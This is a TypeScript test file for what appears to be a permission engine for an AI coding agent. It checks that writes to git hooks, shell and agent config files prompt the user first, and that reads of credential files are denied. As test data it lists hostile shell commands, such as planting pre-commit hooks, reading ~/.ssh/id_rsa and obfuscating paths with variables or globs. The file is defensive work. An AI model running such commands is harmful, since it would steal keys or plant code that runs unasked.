import { mkdir, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";

import fc from "fast-check";
import { describe, expect, it } from "vitest";

import {
  type Access,
  commandSubject,
  decide,
  decideWithGrants,
  findFloor,
  grantTarget,
  type Layer,
  makeGrant,
  pathSubject,
  type Policy,
  type Rule,
  sessionPolicy,
} from "../../src/index.ts";
import { temporaryFolder } from "../temporary-folder.ts";

/** As mode `code` has it. */
const FREE: Layer = {
  name: "code mode",
  rules: [
    { effect: "ask", when: { subject: "path" } },
    { effect: "allow", when: { path: "**", access: "read" } },
    { effect: "allow", when: { path: "**", access: "write" } },
    { effect: "allow", when: { subject: "command" } },
  ],
};

const NOTHING: Layer = { name: "floor", rules: [] };

function effectOf(access: Access, path: string, ...layers: Policy): string {
  const policy = sessionPolicy({ floor: NOTHING, beneath: [FREE], layers });
  return decide({ type: "path", access, path, roots: ["/home/me"] }, policy).effect;
}

const EXECUTED = [
  ".git/config",
  ".git/hooks/pre-commit",
  ".git/modules/a/hooks/post-checkout",
  "sub/.git",
  "bare.git/hooks/update",
  ".vscode/tasks.json",
  ".vscode/settings.json",
  ".idea/workspace.xml",
  ".envrc",
  ".npmrc",
  ".husky/pre-commit",
  ".claude/settings.json",
  ".gemini/settings.json",
  ".codex/config.toml",
  ".cursor/mcp.json",
  "tenon.json",
  "app/tenon.json",
  ".mcp.json",
  ".bashrc",
  ".zshenv",
  ".config/fish/config.fish",
  ".config/autostart/x.desktop",
  ".config/systemd/user/x.service",
  "Library/LaunchAgents/x.plist",
  "node_modules/.bin/tsc",
  ".cargo/config.toml",
  ".pnpmfile.cjs",
];
const SECRET = [
  ".ssh/id_rsa",
  ".aws/credentials",
  ".config/tenon/keys.json",
  ".config/tenon/tokens/a.json",
  ".local/share/tenon/serve-token",
  ".local/share/tenon/metrics-token",
  ".local/share/tenon/journal.db",
  ".local/share/tenon/journal.db-wal",
  ".local/share/tenon/results/tenon-1/a.txt",
];

describe("the floor", () => {
  it.each(EXECUTED)("[H3] asks before %s is written in a mode that writes unasked, and lets it be read", (file) => {
    expect(effectOf("write", `/home/me/${file}`)).toBe("ask");
    expect(effectOf("read", `/home/me/${file}`)).toBe("allow");
  });

  it.each(SECRET)("[H2] denies reading and writing %s", (file) => {
    expect(effectOf("read", `/home/me/${file}`)).toBe("deny");
    expect(effectOf("write", `/home/me/${file}`)).toBe("deny");
  });

  it("[H2] asks before our configuration is written, and denies writing grants and trust", () => {
    expect(effectOf("write", "/home/me/.config/tenon/tenon.json")).toBe("ask");
    expect(effectOf("write", "/home/me/.config/tenon/grants/1.json")).toBe("deny");
    expect(effectOf("write", "/home/me/.config/tenon/trust/1.json")).toBe("deny");
  });

  it("does not hold for files that only look alike", () => {
    for (const file of ["src/git/hooks/a.ts", "docs/.gitignore", "src/tenon/results/a", "tsconfig.json", "ssh/a"]) {
      expect(effectOf("write", `/home/me/${file}`)).toBe("allow");
    }
  });

  it("[H3] holds in any case of letters and below any folder", () => {
    const cased = fc
      .tuple(fc.constantFrom(...EXECUTED, ...SECRET), fc.array(fc.boolean(), { minLength: 60, maxLength: 60 }))
      .map(([file, upper]) => Array.from(file, (one, at) => (upper[at] ? one.toUpperCase() : one)).join(""));
    const folders = fc.array(fc.stringMatching(/^[a-z][a-z0-9 -]{0,6}$/), { maxLength: 4 });
    fc.assert(
      fc.property(cased, folders, (file, below) => {
        expect(effectOf("write", ["/home/me", ...below, file].join("/"))).not.toBe("allow");
      }),
    );
    expect(effectOf("write", "/home/me/.hu\u017Fky/pre-commit")).toBe("ask");
  });

  it("[H3] is not lowered by wide rules, nor by any rule of a project, only by a user's rule that names the place", () => {
    const allow = (path: string): Rule => ({ effect: "allow", when: { path, access: "write" } });
    const user = (path: string): Layer => ({ name: "user", rules: [allow(path)] });
    const project = (path: string): Layer => ({ ...user(path), name: "project", onlyStricter: true });
    const file = "/home/me/.git/hooks/pre-commit";
    for (const path of ["**", "/**", "/home/me/**", ".git/**"]) expect(effectOf("write", file, user(path))).toBe("ask");
    expect(effectOf("write", file, project(file))).toBe("ask");
    expect(effectOf("write", file, user(file))).toBe("allow");
    expect(effectOf("write", file, user("/home/me/.git/**"))).toBe("allow");
  });

  it("[H3] is not answered by an approval of before, and is by a rejection", () => {
    const policy = sessionPolicy({ floor: NOTHING, beneath: [FREE], layers: [] });
    const subject = { type: "path", access: "write", path: "/home/me/.envrc", roots: ["/home/me"] } as const;
    const target = grantTarget(subject);
    const grant = (verdict: "allow" | "reject") =>
      target && makeGrant({ target, verdict, scope: { type: "everywhere" }, lifetime: "always", now: new Date(0) });
    const withGrant = (verdict: "allow" | "reject") =>
      decideWithGrants(subject, { policy, grants: [grant(verdict)].flatMap((one) => one ?? []) }).effect;
    expect(withGrant("allow")).toBe("ask");
    expect(withGrant("reject")).toBe("deny");
  });
});

describe.skipIf(process.platform === "win32")("the floor of a session", () => {
  it("[H2] knows our folders as they are on this run, also behind links", async () => {
    await using folder = await temporaryFolder();
    const { path } = folder;
    await mkdir(join(path, "dotfiles/tenon"), { recursive: true });
    await mkdir(join(path, "elsewhere"));
    await mkdir(join(path, "data"));
    await symlink(join(path, "dotfiles/tenon"), join(path, "cfg"));
    await writeFile(join(path, "elsewhere/settings"), "{}");
    await symlink(join(path, "elsewhere/settings"), join(path, "dotfiles/tenon/tenon.json"));
    const own = { config: join(path, "cfg"), data: join(path, "data") };
    const decided = await decider(path, { own });
    expect(await decided("write", "cfg/tenon.json")).toBe("ask");
    expect(await decided("write", "dotfiles/tenon/tenon.json")).toBe("ask");
    expect(await decided("write", "elsewhere/settings")).toBe("ask");
    expect(await decided("write", "dotfiles/tenon/grants/1.json")).toBe("deny");
    expect(await decided("read", "dotfiles/tenon/keys.json")).toBe("deny");
    expect(await decided("read", "data/serve-token")).toBe("deny");
    expect(await decided("read", "data/journal.db-shm")).toBe("deny");
    expect(await decided("write", "elsewhere/other")).toBe("allow");
  });

  it("[H3] follows worktrees, separate git folders and core.hooksPath", async () => {
    await using folder = await temporaryFolder();
    const { path } = folder;
    await mkdir(join(path, "store/worktrees/w"), { recursive: true });
    await writeFile(join(path, ".git"), "gitdir: store/worktrees/w\n");
    await writeFile(join(path, "store/worktrees/w/commondir"), "../..\n");
    await writeFile(join(path, "store/config"), "[core]\n\thooksPath = tools/hooks\n");
    const decided = await decider(path);
    expect(await decided("write", ".git")).toBe("ask");
    expect(await decided("write", "store/config")).toBe("ask");
    expect(await decided("write", "store/worktrees/w/config.worktree")).toBe("ask");
    expect(await decided("write", "tools/hooks/pre-commit")).toBe("ask");
    expect(await decided("write", "tools/build.mjs")).toBe("allow");
  });

  it("[H3] follows links and .. to where they lead", async () => {
    await using folder = await temporaryFolder();
    const { path } = folder;
    await mkdir(join(path, ".git/hooks"), { recursive: true });
    await mkdir(join(path, "src"));
    await symlink("../.git/hooks", join(path, "src/h"));
    const decided = await decider(path);
    expect(await decided("write", "src/h/pre-commit")).toBe("ask");
    expect(await decided("write", "src/h/../config")).toBe("ask");
    expect(await decided("write", "src/../.git/./hooks//x")).toBe("ask");
  });

  it("[H3] follows variables that move the files of other programs", async () => {
    await using folder = await temporaryFolder();
    const { path } = folder;
    const environment = { XDG_CONFIG_HOME: join(path, "cfg"), ZDOTDIR: join(path, "z"), GNUPGHOME: join(path, "g") };
    const decided = await decider(path, { environment });
    expect(await decided("write", "cfg/fish/config.fish")).toBe("ask");
    expect(await decided("read", "cfg/gh/hosts.yml")).toBe("deny");
    expect(await decided("write", "z/.zshrc")).toBe("ask");
    expect(await decided("read", "g/private-keys-v1.d/a.key")).toBe("deny");
  });

  it.each([
    "cp evil .git/hooks/pre-commit",
    "mv evil .git/hooks",
    "rm -rf .git",
    "echo x > .git/hooks/pre-commit",
    "echo x >>.git/config",
    "cd .git && cp ../evil hooks/pre-commit",
    "cd .git; cd hooks; cp ../../evil pre-commit",
    "tee src/h/pre-commit",
    "tee src/../.git/config",
    "cp evil .g?t/hooks/pre-commit",
    "cp evil .git/h*/pre-commit",
    "dd if=evil of=.git/hooks/pre-commit",
    "install -t.git/hooks evil",
    "curl -o.git/hooks/x https://example.com",
    "sh -c 'cp evil .git/hooks/x'",
    "env X=1 nice cp evil .git/hooks/x",
    "cat ~/.ssh/id_rsa",
    "ln -s ~/.ssh keys",
    "cat .ssh/id_rsa",
    "grep -r PRIVATE .",
    "grep -rh PRIVATE",
    "find . -type f",
    "cp -r . ../copy",
    "sed -n 'w .git/hooks/x' evil",
    "cp .envrc.new .envrc",
    "cd src; cd a; cd ~/.config/tenon; cat keys.json",
    "cd src; cd ..; cd .git; cd hooks; echo x > pre-commit",
    "cd; cat .ssh/id_rsa",
    "sh -c 'cd src/a; cd ..; cd ..; cp evil .git/hooks/x'",
    "cat $HOME/.ssh/id_rsa",
    'cat "${HOME}/.config/tenon/keys.json"',
    "cat ${HOME:-/root}/.ssh/id_rsa",
    "cat $(echo ~)/.ssh/id_rsa",
    "echo x > $PWD/.git/hooks/pre-commit",
    "echo x > `pwd`/.git/hooks/pre-commit",
    "cd $HOME; cat .ssh/id_rsa",
    "D=~/.ssh; cat $D/id_rsa",
  ])("[H3] asks before %s, in a session in which every command is allowed", async (shell) => {
    await using folder = await temporaryFolder();
    const { path } = folder;
    await mkdir(join(path, ".git/hooks"), { recursive: true });
    await mkdir(join(path, ".ssh"));
    await mkdir(join(path, "src"));
    await symlink("../.git/hooks", join(path, "src/h"));
    const policy = sessionPolicy({ floor: NOTHING, beneath: [FREE], layers: [] });
    const subject = await commandSubject({ shell }, { cwd: path, home: path });
    expect(decide(subject, policy)).toMatchObject({ effect: "ask", isFloor: true });
  });

  it.each([
    ["changes its folder often", `${"cd a; ".repeat(40)}cat x`],
    ["repeats a word very often", `cat ${"x ".repeat(1_001)}~/.ssh/id_rsa`],
    ["has very many words", `cat ${numbered(1_001).join(" ")} ~/.ssh/id_rsa`],
    ["runs very many others", `find ${"-exec ".repeat(3_000)}`],
    ["has very many options", `ls ${"-a b ".repeat(4_000)}`],
    ["is wrapped with very many options", `nice ${"-n 1 ".repeat(4_000)}ls`],
  ])("asks before a command that %s", async (_, shell) => {
    const policy = sessionPolicy({ floor: NOTHING, beneath: [FREE], layers: [] });
    const subject = await commandSubject({ shell }, { cwd: "/nowhere", home: "/nowhere" });
    expect(subject.isIncomplete).toBe(true);
    expect(decide(subject, policy)).toMatchObject({ effect: "ask", isFloor: true });
  });

  it("does not follow a command through hundreds of folders", async () => {
    const shell = `${"cd a; ".repeat(400)}cat x`;
    const { paths = [] } = await commandSubject({ shell }, { cwd: "/nowhere", home: "/nowhere" });
    expect(Math.max(...paths.map(({ path }) => path.length))).toBeLessThan(100);
  });

  it("lets a command run that names some hundreds of files", async () => {
    const policy = sessionPolicy({ floor: NOTHING, beneath: [FREE], layers: [] });
    const shell = `git add ${numbered(300).join(" ")}`;
    expect(decide(await commandSubject({ shell }, { cwd: "/nowhere", home: "/nowhere" }), policy).effect).toBe("allow");
  });

  it("asks before a command with more files than are looked at", async () => {
    await using folder = await temporaryFolder();
    for (let at = 0; at < 60; at++) await mkdir(join(folder.path, `d${at}`));
    await Promise.all(Array.from({ length: 2_400 }, (_, at) => writeFile(join(folder.path, `d${at % 60}/${at}`), "")));
    const policy = sessionPolicy({ floor: NOTHING, beneath: [FREE], layers: [] });
    const effect = async (shell: string) =>
      decide(await commandSubject({ shell }, { cwd: folder.path, home: "/nowhere" }), policy).effect;
    expect(await effect("cat d*/*")).toBe("ask");
    expect(await effect("cat d1*/*")).toBe("allow");
  });

  it("asks for a command each time, even where the mode asks and the user approved it before", async () => {
    await using folder = await temporaryFolder();
    const asking: Layer = { name: "ask mode", rules: [{ effect: "ask", when: { subject: "command" } }] };
    const policy = sessionPolicy({ floor: NOTHING, beneath: [asking], layers: [] });
    const subject = await commandSubject({ shell: "cat ~/.ssh/id_rsa" }, { cwd: folder.path, home: folder.path });
    expect(decide(subject, policy)).toMatchObject({ effect: "ask", isFloor: true });
  });

  it("[H2] asks before a command goes through a folder that holds our data", async () => {
    await using folder = await temporaryFolder();
    const own = { config: join(folder.path, "own"), data: join(folder.path, "data") };
    await mkdir(own.data);
    await writeFile(join(own.data, "serve-token"), "");
    const floor = await findFloor({ roots: [folder.path], own, environment: {}, home: "/nowhere" });
    const policy = sessionPolicy({ floor, beneath: [FREE], layers: [] });
    const effect = async (shell: string) =>
      decide(await commandSubject({ shell }, { cwd: folder.path, home: "/nowhere" }), policy).effect;
    expect(await effect("grep -r token .")).toBe("ask");
    expect(await effect("cat data/*")).toBe("ask");
    expect(await effect("grep -r token src")).toBe("allow");
  });

  it.each([
    "git status",
    "npm test",
    "cat .git/config",
    "ls .git",
    "git diff .vscode/settings.json",
    "rm -rf dist",
    "cd / && pwd",
    "ls /",
    "cd src; cd ..; cd lib; cd ..; npm test",
    "echo $HOME",
  ])("lets %s run where commands are allowed", async (shell) => {
    await using folder = await temporaryFolder();
    const policy = sessionPolicy({ floor: NOTHING, beneath: [FREE], layers: [] });
    const subject = await commandSubject({ shell }, { cwd: folder.path, home: folder.path });
    expect(decide(subject, policy).effect).toBe("allow");
  });
});

function numbered(count: number): readonly string[] {
  return Array.from({ length: count }, (_, at) => `x${at}`);
}

async function decider(root: string, options: Partial<Parameters<typeof findFloor>[0]> = {}) {
  const floor = await findFloor({ roots: [root], environment: {}, home: "/nowhere", ...options });
  const policy = sessionPolicy({ floor, beneath: [FREE], layers: [] });
  return async (access: Access, path: string) => {
    const found = await pathSubject({ access, path: `${root}/${path}`, roots: [root] });
    return "problem" in found ? found.problem : decide(found.subject, policy).effect;
  };
}
